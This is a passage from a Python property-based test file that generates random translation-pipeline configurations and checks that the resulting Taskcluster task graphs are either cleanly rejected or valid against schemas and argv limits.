    "opus_{task_id}/v1", "mtdata_a:b[1]/c",
]


@st.composite
def graph_configs(draw):
    config = draw(continuation_configs())
    if draw(st.booleans()):
        # A complete config: its own languages and datasets, some of them long or odd.
        config["experiment"].update({"name": "graph", "src": draw(st.sampled_from(["ru", "zh_hant", "sr_latn_rs"])),
                                     "trg": "en"})
        config["datasets"] = {category: draw(st.lists(st.sampled_from(GRAPH_DATASETS), min_size=1, max_size=2))
                              for category in ("train", "devtest", "test", "mono-src", "mono-trg")}
    if draw(st.booleans()):
        config["experiment"]["name"] = draw(st.text(min_size=1, max_size=40)) if draw(st.booleans()) else "n" * 8192
    if draw(st.booleans()):
        config.setdefault("taskcluster", {})["upload-bucket"] = draw(st.text(max_size=20))
    return config


def _graph_accepted(config):
    from test_taskcluster_schemas import (  # noqa: PLC0415 (a test module: import when used)
        CREATE_TASK,
        NO_PAYLOAD_SCHEMA,
        PAYLOAD_SCHEMAS,
        queue_rule_errors,
        schema_errors,
        submittable,
        worker_implementations,
    )

    try:
        graph = generate(config)
    except ConfigError as error:
        _check_clean_error(error)
        return "rejected"
    parameters = generate(config, attribute="parameters")
    graph_config = generate(config, attribute="graph_config")
    implementations = worker_implementations(graph_config, parameters["level"])
    for label, task_def in submittable(graph, graph_config, parameters).items():
        problems = schema_errors(CREATE_TASK, task_def) + queue_rule_errors(task_def)
        implementation = implementations.get((task_def["provisionerId"], task_def["workerType"]))
        if implementation in PAYLOAD_SCHEMAS:
            problems += schema_errors(PAYLOAD_SCHEMAS[implementation], task_def["payload"])
        else:
            assert implementation in NO_PAYLOAD_SCHEMA, (label, implementation)
        assert not problems, (label, problems)
        for element in task_def["payload"].get("command", []):
            # Linux refuses an argv element over 128 KiB; no NUL can be passed at all.
            for item in element if isinstance(element, list) else [element]:
                assert len(item.encode()) < 128 * 1024 and "\x00" not in item, label
    return "planned"


def test_random_graphs_are_accepted_by_taskcluster():
    outcomes = _run_property(graph_configs(), 6, check=_graph_accepted, name="whole graphs", share=100)
    assert outcomes["planned"] >= 1, outcomes
